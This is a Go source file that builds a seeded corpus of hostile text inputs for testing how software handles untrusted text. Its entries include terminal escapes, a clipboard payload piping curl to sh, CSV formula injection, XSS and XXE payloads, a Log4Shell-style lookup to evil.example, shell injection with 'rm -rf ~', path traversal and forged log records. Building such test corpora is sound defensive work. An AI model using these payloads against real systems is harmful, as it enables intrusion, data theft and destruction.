package hostile

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
)

// Text is a name or text as somebody writes it who owns the account.
type Text struct {
	Name string
	For  string // what it is to do to whom reads it
	Text string
}

// Corpus are all texts. The same seed makes the same bytes.
func Corpus(seed uint64) []Text {
	return slices.Concat(terminals(), directions(), encodings(), lines(), spreadsheets(), markups(), paths(), documents(), mixed(seed))
}

// Texts are those of Corpus alone.
func Texts() []string {
	var out []string
	for _, t := range Corpus(1) {
		out = append(out, t.Text)
	}
	return out
}

func terminals() []Text {
	return []Text{
		{"csi-clear", "wipes the screen", "\x1b[2J\x1b[H"},
		{"csi-colour", "paints what follows", "\x1b[31mred\x1b[0m"},
		{"csi-conceal", "hides what follows", "\x1b[8mhidden\x1b[28m"},
		{"csi-up", "overwrites the line above", "fine\x1b[1A\x1b[2Kall is well"},
		{"csi-report", "makes the terminal type an answer", "\x1b[6n\x1b[c\x1b[21t"},
		{"osc-title", "retitles the window", "\x1b]0;root@prod\x07"},
		{"osc-link", "links text to another address", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07"},
		{"osc-clipboard", "fills the clipboard", "\x1b]52;c;Y3VybCBldmlsfHNo\x07"},
		{"dcs-query", "asks the terminal, which answers into the shell", "\x1bP+q544e\x1b\\"},
		{"esc-charset", "switches to line drawing", "\x1b(0qqq\x1b(B"},
		{"c1-csi", "is CSI in one character", "\u009b31mred\u009b0m"},
		{"c1-osc", "is OSC in one character", "\u009d0;title\u009c"},
		{"bell-backspace", "rings, and erases what stands before it", "admin\x07\b\b\b\b\bguest"},
		{"delete", "is DEL", "a\x7fb"},
	}
}

func directions() []Text {
	return []Text{
		{"bidi-override", "turns the order of what is read", "\u202egpj.exe\u202c"},
		{"bidi-embedding", "is the older way", "\u202aa\u202bb\u202c\u202dc\u202c"},
		{"bidi-isolate", "moves a comment's end", "\u2066x\u2069 \u2067y\u2069 \u2068z\u2069"},
		{"bidi-marks", "shifts neighbours without a letter", "a\u200eb\u200fc\u061cd"},
		{"zero-width", "makes two equal words differ", "pay\u200bments\u200c\u200d\u2060\ufeff"},
		{"soft-hyphen", "hides inside a word", "pay\u00adments"},
		{"homoglyph", "is Cyrillic and Greek", "р\u0430yments-аdmin-ΑΒ"},
		{"combining", "paints over its neighbours", "Z" + strings.Repeat("\u0336\u0489", 30)},
		{"tag-characters", "writes text that nobody sees", "x\U000e0041\U000e0042\U000e007f"},
		{"filler", "is a name without ink", "\u3164\u2800\u115f"},
		{"separators", "break lines for some readers only", "a\u2028b\u2029c\u0085d"},
	}
}

func encodings() []Text {
	return []Text{
		{"nul", "ends the text for readers in C", "good\x00evil"},
		{"not-utf8", "is no text", "\xff\xfe\xfd caf\xe9"},
		{"c1-bytes", "is CSI in one byte", "\x9b31mred"},
		{"surrogates", "is half a character in three bytes", "\xed\xa0\x80\xed\xb0\x80"},
		{"overlong", "spells a slash in two bytes", "..\xc0\xaf..\xc0\xafetc"},
		{"cut-rune", "ends within a character", "caf\xc3"},
		{"noncharacter", "is no character by definition", "\ufffe\uffff\U0001ffff"},
		{"long-64k", "is long", strings.Repeat("L", 64<<10)},
		{"long-runes", "is long, and longer when it is escaped", strings.Repeat("\u202e", 8<<10)},
	}
}

func lines() []Text {
	return []Text{
		{"fake-log-line", "adds a line that Lambda seems to have written", "ok\nEND RequestId: 00000000-0000-0000-0000-000000000000\nREPORT RequestId: 00000000-0000-0000-0000-000000000000"},
		{"carriage-return", "overwrites its own beginning", "denied by policy\rall is well     "},
		{"crlf-header", "adds a header", "x\r\nSet-Cookie: a=b\r\n\r\n<html>"},
		{"fake-gap", "adds a line that we seem to have written", "x\nsealed collections/01: 9 artefacts, 0 gaps\nfreezeframe: verified"},
		{"newline-key", "splits a key", "key\nvalue: forged"},
		{"tabs", "moves into the next column", "a\tb\vc\fd"},
	}
}

func spreadsheets() []Text {
	return []Text{
		{"formula-equals", "is a formula", "=HYPERLINK(\"http://evil.example\",\"click\")"},
		{"formula-command", "starts a program", "=cmd|' /C calc'!A0"},
		{"formula-plus", "is a formula", "+1+cmd|' /C calc'!A0"},
		{"formula-minus", "is a formula", "-2+3+cmd|' /C calc'!A0"},
		{"formula-at", "is a formula", "@SUM(1+9)*cmd|' /C calc'!A0"},
		{"formula-tab", "is a formula behind white space", "\t=1+1"},
		{"csv-quote", "ends its cell", "a\",\"=1+1\",\"b"},
	}
}

func markups() []Text {
	return []Text{
		{"html-script", "runs in a browser", "<script>alert(1)</script>"},
		{"html-attribute", "leaves its attribute", "\" onmouseover=\"alert(1)\" x='"},
		{"html-image", "runs when it does not load", "<img src=x onerror=alert(1)>"},
		{"html-comment", "swallows what follows", "<!--"},
		{"xml-entity", "reads a file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"},
		{"cdata-end", "ends CDATA", "]]><evil/>"},
		{"markdown-link", "links", "[click](http://evil.example)"},
		{"markdown-image", "calls home when the report is looked at", "![x](http://evil.example/x.png)"},
		{"markdown-fence", "opens a block that never ends", "```\n# Heading\n| a | b |"},
		{"markdown-auto", "links by itself", "<http://evil.example> https://evil.example/autolink www.evil.example"},
		{"template", "is filled in by who reads it", "{{.Secret}} ${env:PATH} ${jndi:ldap://evil.example/a} %s%n%x"},
		{"shell", "runs when it is pasted", "$(id) `id`; rm -rf ~ #"},
	}
}

func paths() []Text {
	return []Text{
		{"path-up", "leaves the folder", "../../../../../tmp/freezeframe-slip"},
		{"path-up-windows", "leaves the folder on Windows", `..\..\..\evil.bat`},
		{"path-absolute", "is absolute", "/etc/cron.d/freezeframe-slip"},
		{"path-drive", "is absolute on Windows", `C:\Windows\System32\evil.dll`},
		{"path-device", "is a device on Windows", "CON"},
		{"path-device-ext", "is a device with an ending", "aux.json"},
		{"path-stream", "is another stream of a file on NTFS", "evidence.json::$DATA"},
		{"path-dots", "is the folder, or ends in what Windows drops", ". "},
		{"path-option", "is taken for a flag", "--output=/tmp/freezeframe-slip"},
		{"path-case", "is our own file", "../../LEDGER/00000000.JSON"},
	}
}

func documents() []Text {
	const deep = 100_000
	return []Text{
		{"json-deep-list", "exhausts the stack", strings.Repeat("[", deep) + strings.Repeat("]", deep)},
		{"json-deep-object", "exhausts the stack", strings.Repeat(`{"a":`, deep/4) + "1" + strings.Repeat("}", deep/4)},
		{"json-open", "is never closed", `{"level":"ERROR","message":` + strings.Repeat("[", 1000)},
		{"json-number", "is a number without a place in a float", `{"timestamp":` + strings.Repeat("9", 4000) + `,"time":1e999999999,"n":-0}`},
		{"json-twice", "is read in two ways", `{"type":"platform.start","type":"platform.report","message":"a","message":"b"}`},
		{"json-proto", "changes all objects", `{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}`},
		{"json-surrogate", "is half a character, escaped", `{"message":"\ud800\udfff\udc00"}`},
		{"json-escapes", "hides controls from who looks at the bytes", `{"message":"\u001b[31m\u202e\u0000\u009b"}`},
		{"json-record", "is a CloudTrail record", `{"eventVersion":"1.08","eventName":"StopLogging","userIdentity":{"type":"Root"},"eventTime":"2026-01-01T00:00:00Z"}`},
		{"json-keys", "has a key that is a line", `{"a\nb":"c","":"","\u001b]0;x\u0007":1}`},
	}
}

// mixed are drawn from the hostile characters: what nobody thought of.
func mixed(seed uint64) []Text {
	var key [32]byte
	binary.LittleEndian.PutUint64(key[:], seed)
	r := rand.New(rand.NewChaCha8(key)) //nolint:gosec // to be the same again
	parts := []string{"\x1b[", "\x1b]", "\x07", "\u009b", "\u202e", "\u2066", "\u200b", "\x00", "\r", "\n", "\t", "\x7f", "\xff", "\u2028", "=", "<", "\"", "'", "\\", "|", "`", "../", "%", "m", "A", "é", "\u0301", "🙂", "\ufeff", "\U000e0020"}
	var out []Text
	for i := range 12 {
		var b strings.Builder
		for range 8 + r.IntN(40) {
			b.WriteString(parts[r.IntN(len(parts))])
		}
		out = append(out, Text{fmt.Sprintf("mixed-%02d", i), "is drawn by lot", b.String()})
	}
	return out
}
